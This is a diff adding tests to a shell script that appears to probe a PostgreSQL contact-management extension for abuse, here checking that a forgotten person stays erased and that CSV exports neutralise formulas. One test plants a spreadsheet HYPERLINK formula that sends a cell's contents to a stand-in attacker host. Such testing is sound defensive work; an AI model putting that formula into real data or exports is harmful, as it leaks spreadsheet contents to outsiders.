@@ -25,6 +25,8 @@
 #     limit, an actor with control characters: refused.
 #   - the runner: a row lock anna holds in her account, her 300 jobs, her
 #     jobs queued for 1900, her queue beyond bulk_max_queued_jobs.
+#   - a forgotten person: no unmerge, no queued import brings her back;
+#     a formula she writes reaches no export as one.
 # HOSTILE_VERSION=0.1 runs it against an older install script.
 # Prints TAP.  Needs PGHOST/PGPORT/PGUSER (a superuser) of a cluster with
 # trust auth.
@@ -77,7 +79,7 @@ SELECT customercard.bind_role('cc_ht_boris', 2);
 INSERT INTO customercard.contacts (account_id, name) SELECT 1, 'Anna client ' || i FROM generate_series(1, 50) i;
 INSERT INTO customercard.contacts (account_id, name) SELECT 2, 'Boris client ' || i FROM generate_series(1, 50) i;
 SQL
-echo "1..69"
+echo "1..72"
 
 # 1. a poisoned job
 ok "$(as cc_ht_anna -c "SELECT customercard.bulk_enqueue('archive', filter => '{}', run_at => '-infinity')")" 22007 \
@@ -314,3 +316,19 @@ ok "$(as cc_ht_anna -c "SET customercard.bulk_max_queued_jobs = 1000")|$(boris "
    "... a limit she cannot raise; boris's queue is his own"
 admin -c "ALTER ROLE cc_ht_anna RESET customercard.bulk_max_queued_jobs"
 admin -c "UPDATE customercard.bulk_jobs SET status = 'cancelled', finished_at = now() WHERE status IN ('queued', 'running')"
+
+# 11. a person erased on request stays erased; an export carries no formula
+m1=$(as cc_ht_anna -c "SELECT customercard.upsert_contact('{\"name\": \"Yolanda Erasova\", \"emails\": [\"yolanda.erasova@example.com\"], \"phones\": [\"+7 912 777-66-55\"]}')")
+m2=$(as cc_ht_anna -c "SELECT customercard.upsert_contact('{\"name\": \"Y. Erasova\", \"emails\": [\"y.erasova@example.com\"]}')")
+merge=$(as cc_ht_anna_admin -c "SELECT customercard.merge($m1, $m2)")
+imp=$(as cc_ht_anna -c "SELECT customercard.import_enqueue(convert_to(E'name,phone,email\r\nYolanda,8 912 777 66 55,YOLANDA.ERASOVA@example.com\r\n', 'UTF8'), 'csv')")
+as cc_ht_anna_admin -c "SELECT customercard.forget_contact($m2)" >/dev/null
+ok "$(as cc_ht_anna_admin -c "SELECT customercard.unmerge($merge)")" 55000 \
+   "an unmerge after forget_contact is refused (55000): the absorbed contact is not brought back"
+admin -c "SET statement_timeout = '20s'" -c "CALL customercard.bulk_run('5 seconds')" >/dev/null 2>&1 || true
+ok "$(as cc_ht_anna -c "SELECT string_agg(status || ':' || coalesce(reason, ''), ',') FROM customercard.import_report($imp)")|$(admin -c "SELECT count(*) FROM customercard.emails WHERE lower(email) LIKE '%erasova%'")|$(admin -c "SELECT count(*) FROM customercard.bulk_job_rows WHERE data::text ILIKE '%erasova%' OR data::text LIKE '%777 66 55%'")" \
+   "rejected:(erased on request)|0|0" \
+   "a queued import naming the forgotten person is refused when run, without her values; she does not come back"
+as cc_ht_anna -c "SELECT customercard.upsert_contact('{\"name\": \"=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A2,\\\"click\\\")\", \"emails\": [\"formula@example.com\"]}')" >/dev/null
+ok "$(as cc_ht_anna -c "SELECT count(*) FROM regexp_split_to_table(customercard.export_csv('{}'), E'\r\n') l WHERE l LIKE '%,\"''=HYPERLINK(%'")|$(as cc_ht_anna -c "SELECT count(*) FROM regexp_split_to_table(customercard.export_csv('{}'), E'\r\n') l WHERE l LIKE '%,\"=HYPERLINK(%'")" \
+   "1|0" "a name anna wrote as a formula reaches the exported CSV with a leading ' (no spreadsheet runs it)"
